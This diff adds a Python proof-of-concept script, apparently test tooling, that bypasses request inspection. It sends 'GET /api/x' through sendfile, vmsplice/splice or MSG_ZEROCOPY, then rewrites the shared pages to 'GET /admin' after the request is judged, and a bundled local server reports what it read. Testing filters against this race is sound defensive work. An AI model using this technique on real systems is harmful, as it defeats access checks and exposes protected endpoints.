@@ -1,0 +1,120 @@
+# SPDX-License-Identifier: Apache-2.0
+"""A sender that changes what it has sent, after it was judged and before the server reads it.
+
+Usage: shared_pages.py serve ADDRESS PORT GO-FILE	accepts one connection after the other; reads from each only when
+						the file is there, and answers with the request's target
+       shared_pages.py WAY ADDRESS PORT GO-FILE
+
+WAY is sendfile, splice (of pages from vmsplice), zerocopy (MSG_ZEROCOPY), or behind-a-body: sendfile of the end of a
+body and the next request. The client prints the target that the server has read last: "/api/x" is what was judged,
+"/admin" what it became.
+"""
+import ctypes
+import mmap
+import os
+import socket
+import sys
+import time
+
+JUDGED = b"GET /api/x HTTP/1.1\r\nHost: b\r\n\r\n"
+BECOMES = b"GET /admin HTTP/1.1\r\nHost: b\r\n\r\n"
+SO_ZEROCOPY, MSG_ZEROCOPY = 60, 0x4000000
+SPLICE_F_GIFT, SPLICE_F_MOVE = 8, 1
+
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+
+
+def family(address):
+    return socket.AF_INET6 if ":" in address else socket.AF_INET
+
+
+def serve(address, port, go):
+    listener = socket.create_server((address, port), family=family(address))
+    print("up", flush=True)
+    while True:
+        s, _ = listener.accept()
+        s.settimeout(10)
+        until = time.time() + 10
+        while not os.path.exists(go) and time.time() < until:
+            time.sleep(0.02)
+        data = b""
+        try:
+            while b"GET " not in data:
+                data += s.recv(65536)
+            s.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\n" + data.split(b"GET ")[1][:6])
+        except OSError:
+            pass
+        s.close()
+
+
+def by_sendfile(s, memory, file, size):
+    os.sendfile(s.fileno(), file, 0, size)
+
+
+def by_sendfile_behind_a_body(s, memory, file, size):
+    s.send(b"POST /api/x HTTP/1.1\r\nHost: b\r\nContent-Length: 1000\r\n\r\n" + b"x" * 990)
+    time.sleep(0.1)
+    os.pwrite(file, b"y" * 10 + JUDGED, 0)
+    os.sendfile(s.fileno(), file, 0, 10 + size)
+    return 10
+
+
+def by_splice(s, memory, file, size):
+    r, w = os.pipe()
+    at = ctypes.addressof(ctypes.c_char.from_buffer(memory))
+    if libc.vmsplice(w, ctypes.byref(iovec(at, size)), ctypes.c_ulong(1), SPLICE_F_GIFT) != size:
+        raise OSError(ctypes.get_errno(), "vmsplice")
+    if libc.splice(r, None, s.fileno(), None, ctypes.c_size_t(size), SPLICE_F_MOVE) != size:
+        raise OSError(ctypes.get_errno(), "splice")
+
+
+def by_zerocopy(s, memory, file, size):
+    s.setsockopt(socket.SOL_SOCKET, SO_ZEROCOPY, 1)
+    s.send(memoryview(memory)[:size], MSG_ZEROCOPY)
+
+
+WAYS = {
+    "sendfile": by_sendfile,
+    "behind-a-body": by_sendfile_behind_a_body,
+    "splice": by_splice,
+    "zerocopy": by_zerocopy,
+}
+
+
+def attack(way, address, port, go):
+    file = os.memfd_create("shared")
+    os.ftruncate(file, mmap.PAGESIZE)
+    memory = mmap.mmap(file, mmap.PAGESIZE)
+    memory[: len(JUDGED)] = JUDGED
+    s = socket.create_connection((address, port))
+    s.settimeout(5)
+    at = WAYS[way](s, memory, file, len(JUDGED)) or 0
+    time.sleep(0.3)  # it is judged when it arrives
+    memory[at : at + len(BECOMES)] = BECOMES
+    open(go, "w").close()
+    answer = b""
+    try:
+        while True:
+            part = s.recv(1000)
+            if not part:
+                break
+            answer += part
+    except OSError as e:
+        answer += type(e).__name__.encode()
+    os.unlink(go)
+    return answer.split(b"\r\n\r\n")[-1].decode() or "nothing"
+
+
+def main():
+    what, address, port, go = sys.argv[1:]
+    if what == "serve":
+        serve(address, int(port), go)
+    print(attack(what, address, int(port), go))
+
+
+if __name__ == "__main__":
+    main()
